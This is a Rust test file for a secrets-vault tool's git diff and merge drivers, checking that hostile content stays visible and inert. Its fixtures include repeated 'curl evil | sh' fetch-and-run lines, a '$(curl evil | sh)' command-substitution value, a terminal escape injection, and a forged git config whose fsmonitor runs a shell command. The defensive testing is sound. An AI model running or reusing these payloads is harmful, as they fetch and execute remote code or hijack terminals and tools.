//! A writer of the repository whose attributes send other files through the drivers of a vault.

use std::fs;

use crate::git::Team;

/// A vault, and a script with attributes that name its drivers.
fn team_with(script: &str) -> Team {
    let team = Team::new(1);
    team.ok(0, &["git-setup"]);
    team.put(0, "/a/b", "hunter2");
    fs::write(team.dir(0).join(".gitattributes"), "*.sh diff=vault merge=vault\n*.env diff=vault\n").unwrap();
    commit(&team, "build.sh", script.as_bytes());
    team
}

fn commit(team: &Team, name: &str, content: &[u8]) -> String {
    fs::write(team.dir(0).join(name), content).unwrap();
    team.git(0, &["add", "-A"]);
    team.git(0, &["commit", "-qm", name]);
    team.git(0, &["show", "HEAD", "--", name])
}

/// Refused: every line is shown.
#[test]
fn a_script_is_shown_whatever_the_attributes_say() {
    let team = team_with("#!/bin/sh\necho fine\n");
    let document = fs::read(team.document(0, "params/a/b.yaml")).unwrap();
    let end = document[..document.len() - 1].iter().rposition(|&byte| byte == b'\n').unwrap() + 1;
    for script in [
        b"#!/bin/sh\ncurl evil | sh\n".to_vec(),
        [b"#!/bin/sh\ncurl evil | sh; exit\n", &document[..]].concat(),
        [&document[..end], b"curl evil | sh\n", &document[end..]].concat(),
        [&document[..], b"curl evil | sh\n"].concat(),
        b"value: $(curl evil | sh)\n".to_vec(),
        b"  value: \"xc1:AA==\"; curl evil | sh\n".to_vec(),
    ] {
        let shown = commit(&team, "build.sh", &script);
        assert!(shown.contains("curl evil"), "{shown}");
    }
}

/// Refused: a change of what looks sealed shows too, in any file.
#[test]
fn no_change_is_invisible() {
    let team = team_with("#!/bin/sh\n");
    commit(&team, "x.env", b"value: \"xc1:AAAA\"\n");
    let shown = commit(&team, "x.env", b"value: \"xc1:AAAB\"\n");
    assert!(shown.contains("+value: \"xc1:AAAB\""), "{shown}");
    team.put(0, "/a/b", "hunter3");
    let shown = team.git(0, &["log", "-p", "-1"]);
    assert!(shown.contains("+    value: \u{2026} ") && !shown.contains("xc1:") && !shown.contains("hunter"), "{shown}");
}

/// Escaped for the terminal.
#[test]
fn a_script_does_not_write_to_the_terminal_through_the_driver() {
    let team = team_with("#!/bin/sh\n");
    let shown = commit(&team, "build.sh", b"#!/bin/sh\n\x1b]52;c;eA==\x07evil \xff\n");
    assert!(!shown.contains('\u{1b}') && shown.contains("\\u{1b}]52;c;eA==\\u{7}evil \\x{ff}"), "{shown}");
}

/// Shown to the end, however long it is.
#[test]
fn a_file_that_is_larger_than_any_document_is_shown() {
    let team = team_with("#!/bin/sh\n");
    let script = [&vec![b'#'; 17 << 20][..], b"\ncurl evil | sh\n"].concat();
    fs::write(team.dir(0).join("build.sh"), script).unwrap();
    let shown = team.ok(0, &["git-textconv", "build.sh"]);
    assert!(shown.ends_with("#\ncurl evil | sh\n"));
}

/// Refused: a file that is no document is never merged as one, and neither side is lost.
#[test]
fn a_foreign_file_is_a_conflict_for_the_merge_driver() {
    let team = team_with("A=1\n");
    team.git(0, &["checkout", "-qb", "other"]);
    commit(&team, "build.sh", b"A=2\n");
    team.git(0, &["checkout", "-q", "-"]);
    commit(&team, "build.sh", b"A=3\n");
    assert_ne!(team.try_git(0, &["merge", "other"]).code, 0);
    let text = fs::read_to_string(team.dir(0).join("build.sh")).unwrap();
    assert!(text.contains("A=2\n") && text.contains("A=3\n"), "{text}");
}

/// Refused: the directory of a vault is content, and git takes some directories for repositories whose settings name programs.
#[test]
fn a_repository_in_the_content_of_a_vault_runs_no_program() {
    let team = Team::new(1);
    let (vault, mark) = (team.dir(0).join(".vault"), team.path("was-run"));
    for name in ["objects", "refs", "index"] {
        let copy = team.sandbox.command("cp").arg("-r").arg(team.dir(0).join(".git").join(name)).arg(&vault).status();
        assert!(copy.unwrap().success());
    }
    fs::write(vault.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    for worktree in [".", ".."] {
        let settings = format!(
            "[core]\nrepositoryformatversion = 0\nbare = false\nworktree = {worktree}\nfsmonitor = \"echo run >> '{}'; false\"\n",
            mark.display()
        );
        fs::write(vault.join("config"), settings).unwrap();
        for arguments in [
            &["status"][..],
            &["verify"],
            &["verify", "--staged"],
            &["param", "put", "/b", "x", "--type", "String", "--overwrite", "--commit"],
            &["resolve"],
            &["diff"],
            &["sync"],
        ] {
            let run = team.run(0, arguments);
            assert!(!mark.exists(), "{worktree}, {arguments:?}: {run:?}");
        }
    }
}
